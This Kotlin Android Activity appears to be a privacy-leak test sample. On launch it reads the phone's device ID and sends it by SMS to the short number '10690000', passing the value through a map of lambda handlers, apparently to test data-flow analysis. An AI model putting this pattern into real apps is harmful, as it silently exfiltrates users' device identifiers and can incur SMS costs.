package cn.privlens.suite.handler_of_key_sends

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager
import android.util.Log

class Main : Activity() {
    private val handlers: Map<String, (String) -> Unit> = mapOf(
        "send" to { text -> SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null) },
        "count" to { text -> Log.i("suite", "length ${text.length}") },
    )

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val phone = getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager
        val id: String = phone.deviceId ?: return
        dispatch("send", id)
    }

    private fun dispatch(key: String, value: String) {
        handlers[key]?.invoke(value)
    }
}
